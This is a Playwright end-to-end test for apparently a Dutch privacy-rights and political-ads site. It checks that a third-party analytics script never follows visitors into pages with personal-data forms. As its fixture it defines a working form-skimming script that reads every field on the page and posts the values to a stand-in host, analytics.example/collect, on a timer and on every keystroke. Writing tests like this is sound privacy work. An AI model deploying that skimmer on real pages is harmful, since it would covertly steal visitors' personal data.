/**
 * A third-party script never runs in a document that shows,
 * or moves in the browser into, a page with personal data or a form that asks
 * for it. The fake analytics origin below records every request its script
 * makes: a start beacon, and every 200 ms and on every keystroke what every
 * field of the page holds and where the page is. A visitor walks each flow
 * from a page where the script runs (with JavaScript: React moves between
 * pages in the same document) and types a recognisable value everywhere.
 */
import type { Page } from "@playwright/test";

import { spawnServer, type SpawnedServer } from "../setup/spawn-server";
import { expect, onlyWithJavaScript, reactHasTakenOver, test } from "./fixtures";

const ORIGIN = "https://analytics.example";
const SCRIPT = `${ORIGIN}/tag.js`;
const TYPED = "TYPED-BY-VISITOR";

// What a nosy analytics script could do: read every field and the address, and send them home.
const FAKE_ANALYTICS = `(() => {
  const send = (kind) => {
    const fields = [...document.querySelectorAll("input, textarea, select")]
      .map((field) => field.name + "=" + (field.type === "checkbox" || field.type === "radio" ? (field.checked ? field.value : "") : field.value))
      .filter((pair) => !pair.endsWith("="));
    fetch("${ORIGIN}/collect", { method: "POST", mode: "no-cors", keepalive: true, body: JSON.stringify({ kind, page: location.pathname + location.search, fields }) }).catch(() => {});
  };
  send("start");
  setInterval(() => send("tick"), 200);
  for (const type of ["input", "change", "submit"]) document.addEventListener(type, () => send(type), true);
})();`;

/** Pages where a person's data is typed or shown (the PERSONAL_DATA routes): the script must never report from one. */
const PERSONAL_PAGE =
  /^\/nl(\/about|\/privacy-rights\/(access|forgotten|rectification|publication|status|direct-marketing\/communication-types)|\/political-ads\/[^/]+(\/report)?)?(\?|$)/;

type Beacon = { kind: string; page: string; fields: string[] };

let server: SpawnedServer;
test.beforeAll(async () => {
  server = await spawnServer({ LOG_LEVEL: "warn", PRODUCTION_HOSTS: "be.localhost", ANALYTICS_SCRIPT_URL: SCRIPT });
});
test.afterAll(async () => {
  await server?.stop();
});

/** The fake analytics origin: serves its script and keeps every request it receives. */
async function recordAnalytics(page: Page): Promise<Beacon[]> {
  const log: Beacon[] = [];
  await page.route(`${ORIGIN}/**`, async (route) => {
    const request = route.request();
    if (request.url() === SCRIPT) return route.fulfill({ contentType: "text/javascript", body: FAKE_ANALYTICS });
    log.push(JSON.parse(request.postData() ?? "{}") as Beacon);
    return route.fulfill({ status: 204 });
  });
  return log;
}

/** A page where the script runs, React taking it over (a first intent), marked so that a new document is noticed. */
async function startOnScriptPage(page: Page, pathname: string) {
  await page.goto(`http://be.localhost:${server.port}${pathname}`);
  await expect(page.locator(`script[src="${SCRIPT}"]`)).toHaveCount(1);
  await page.evaluate(() => ((window as unknown as { sameDocument: boolean }).sameDocument = true));
}

/** Arrived on a personal-data page: a new document without the script; everything typed there is the visitor's. */
async function typeEverywhere(page: Page, url: RegExp) {
  await expect(page).toHaveURL(url);
  await expect(page.locator(`script[src="${SCRIPT}"]`)).toHaveCount(0);
  expect(
    await page.evaluate(() => (window as unknown as { sameDocument?: boolean }).sameDocument ?? false),
    "still the document that ran the script",
  ).toBe(false);
  const fields = page.locator(
    ':is(main, dialog) input:is([type="text"], [type="email"], [type="tel"], :not([type])):visible, :is(main, dialog) textarea:visible',
  );
  await expect(fields.first()).toBeVisible();
  // A new document starts React at the first keystroke, and React may then show a field only once it is
  // needed: the fields are counted once it has taken the page over, so none disappears while it is filled.
  await reactHasTakenOver(page);
  for (const field of await fields.all()) await field.fill(TYPED);
  // Several of the script's 200 ms reports, had it still been running.
  await page.waitForTimeout(700);
}

test(
  "no analytics script follows the visitor into a page with their data, and nothing typed reaches it",
  onlyWithJavaScript("without JavaScript no script runs and every link is a new document"),
  async ({ page }) => {
    test.setTimeout(90_000);
    const log = await recordAnalytics(page);

    // Objection step 1 (no personal data) → step 2 asks for a phone number and an address.
    await startOnScriptPage(page, "/nl/privacy-rights/direct-marketing/brands");
    await page.locator('main input[name="brands"]').first().check();
    await page.getByRole("button", { name: "Volgende stap" }).click();
    await typeEverywhere(page, /\/privacy-rights\/direct-marketing\/communication-types$/);

    // The main navigation into the pages with a contact form.
    for (const [link, url] of [
      ['header a[href="/nl"]', /\/nl$/],
      ['header a[href="/nl/about"]', /\/nl\/about$/],
    ] as const) {
      await startOnScriptPage(page, "/nl/privacy-rights/direct-marketing/brands");
      await page.locator(link).first().click();
      await typeEverywhere(page, url);
    }

    // The privacy-rights overview (no personal data: React may show it in place), then each form.
    for (const links of [
      ["access"],
      ["forgotten-overview", "forgotten"],
      ["rectification"],
      ["publication"],
      ["status"],
    ]) {
      await startOnScriptPage(page, "/nl/privacy-rights/direct-marketing/brands");
      await page.locator("header summary").filter({ hasText: "Transparantie" }).first().click();
      await page.locator('header a[href="/nl/privacy-rights"]').first().click();
      await expect(page).toHaveURL(/\/nl\/privacy-rights$/);
      for (const link of links) await page.locator(`main a[href="/nl/privacy-rights/${link}"]`).first().click();
      await typeEverywhere(page, new RegExp(`/privacy-rights/${links.at(-1)}$`));
    }

    // An ad of the register, whose report dialog asks for a name, an e-mail address and an explanation.
    await startOnScriptPage(page, "/nl/political-ads");
    await page.locator('main a[href^="/nl/political-ads/"]').first().click();
    await expect(page).toHaveURL(/\/political-ads\/[^/]+$/);
    // The pointer on the report control starts React; then it is the dialog's button.
    await page.getByRole("link", { name: "Meld deze advertentie" }).hover();
    await page.getByRole("button", { name: "Meld deze advertentie" }).click();
    await page.getByRole("dialog").getByRole("radio").first().check();
    await page.getByRole("dialog").getByRole("button", { name: "Volgende" }).click();
    await typeEverywhere(page, /\/political-ads\/[^/]+$/);

    // The note quotes this: every request the analytics origin received during the walk.
    const lines = log.map((beacon) => `${beacon.kind} ${beacon.page} [${beacon.fields.join(", ")}]`);
    const runs = lines.reduce<{ line: string; count: number }[]>((found, line) => {
      if (found.at(-1)?.line === line) found.at(-1)!.count += 1;
      else found.push({ line, count: 1 });
      return found;
    }, []);
    console.log(runs.map(({ line, count }) => (count > 1 ? `${line} ×${count}` : line)).join("\n"));
    expect(log.length, "the script ran on the pages without personal data").toBeGreaterThan(0);
    expect(
      log.filter((beacon) => PERSONAL_PAGE.test(beacon.page)),
      "reports sent from a page with personal data",
    ).toEqual([]);
    expect(
      log.filter((beacon) => JSON.stringify(beacon).includes(TYPED)),
      "reports that carry what the visitor typed",
    ).toEqual([]);
  },
);
